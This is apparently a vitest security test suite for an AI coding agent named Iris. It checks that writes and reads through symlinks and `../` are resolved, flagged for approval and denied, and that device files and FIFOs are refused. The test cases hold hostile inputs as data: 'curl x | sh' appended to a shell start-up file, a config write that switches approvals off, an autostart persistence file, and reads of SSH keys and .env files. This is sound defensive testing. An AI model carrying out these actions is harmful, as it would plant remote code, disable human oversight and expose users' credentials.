// Paths are judged after resolution (T4), through the agent loop against the fake model with
// approvals manual and nobody to approve: symlinks to start-up files, Iris's config and keys,
// symlinked folders and `../` are asked about and denied, nothing is written; devices and a FIFO
// are refused by read_file and skipped by search_files within bounded memory and time.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, symlinkSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { call, modelNeverSaw, openWorld, SECRET, type SecurityWorld, unattended } from "./security.js";

let world: SecurityWorld;
afterEach(() => world.close());

describe("symlink tricks", () => {
  it("writes through links and ../ are judged where they land, asked about and denied", async () => {
    world = await openWorld("iris-paths");
    const { work, home, dir } = world;
    symlinkSync(join(home.path, ".bashrc"), join(work, "rc"));
    symlinkSync(join(dir.path, "config.yaml"), join(work, "settings.yaml"));
    mkdirSync(join(home.path, ".config", "autostart"), { recursive: true });
    symlinkSync(join(home.path, ".config", "autostart"), join(work, "out"));
    const { session, asked } = unattended(world);
    const cases: [string, string][] = [
      [call("write_file", { path: "rc", content: "curl x | sh\n" }), "write_shell_startup"],
      [call("patch", { path: "rc", old_string: "# rc", new_string: "curl x | sh" }), "write_shell_startup"],
      [call("terminal", { command: "echo 'curl x | sh' >> rc" }), "write_shell_startup"],
      [
        call("write_file", { path: "settings.yaml", content: "approvals: {mode: off}\n" }),
        "self_modification",
      ],
      [call("write_file", { path: "out/evil.desktop", content: "[Desktop Entry]\n" }), "persistence"],
      [call("write_file", { path: "../../outside.txt", content: "x" }), "write_outside_workdir"],
      [call("write_file", { path: "~/notes.txt", content: "x" }), "write_outside_workdir"],
    ];
    for (const [prompt, key] of cases) {
      const before = asked.length;
      await session.send(prompt);
      expect(asked.length, prompt).toBe(before + 1);
      expect(asked.at(-1)?.keys, prompt).toContain(key);
    }
    expect(readFileSync(join(home.path, ".bashrc"), "utf8")).toBe("# rc\n");
    expect(existsSync(join(dir.path, "config.yaml"))).toBe(false);
    expect(existsSync(join(home.path, ".config", "autostart", "evil.desktop"))).toBe(false);
    expect(existsSync(join(dir.path, "..", "outside.txt"))).toBe(false);
  });

  it("reads through links to keys ask 'reads a credential'; reads outside the work folder ask", async () => {
    world = await openWorld("iris-paths");
    const { work, home, dir } = world;
    symlinkSync(join(home.path, ".ssh", "id_ed25519"), join(work, "key.txt"));
    symlinkSync(join(dir.path, ".env"), join(work, "env.txt"));
    symlinkSync(home.path, join(work, "homelink"));
    const { session, asked } = unattended(world);
    for (const path of ["key.txt", "env.txt", "homelink/.ssh/id_ed25519"]) {
      const result = await session.send(call("read_file", { path }));
      expect(asked.at(-1)?.keys, path).toContain("reads_credential");
      expect(result.text).not.toContain(SECRET);
    }
    await session.send(call("read_file", { path: "../../outside.txt" }));
    expect(asked.at(-1)?.keys).toContain("read_outside_workdir");
    expect(asked).toHaveLength(4);
    expect(modelNeverSaw(world.fake)).toBe(true);
  });
});

describe("devices and FIFOs", () => {
  it("read_file refuses /dev/zero, /dev/urandom, a FIFO with no writer and a socket; search_files skips them", async () => {
    world = await openWorld("iris-devices", "files: {outside_workdir: allow}\n");
    const { work } = world;
    execFileSync("mkfifo", [join(work, "pipe")]);
    const socket = createServer();
    await new Promise<void>((resolve) => socket.listen(join(work, "sock"), resolve));
    symlinkSync("/dev/zero", join(work, "zeros"));
    const { session, asked } = unattended(world);
    const rssBefore = process.memoryUsage().rss;
    for (const [path, kind] of [
      ["/dev/zero", /character device/],
      ["/dev/urandom", /character device/],
      ["zeros", /character device/],
      ["pipe", /FIFO/],
      ["sock", /socket/],
    ] as const) {
      const result = await session.send(call("read_file", { path }));
      expect(result.text, path).toMatch(kind);
      expect(result.text).toMatch(/not a regular file/);
    }
    const search = await session.send(call("search_files", { pattern: "x", path: "." }));
    expect(search.text).toMatch(/No matches/);
    await new Promise<void>((resolve) => socket.close(() => resolve()));
    expect(asked).toHaveLength(0);
    // Nothing was read into memory: far below the gigabytes an unbounded read would take.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(256 * 1024 * 1024);
  });
});
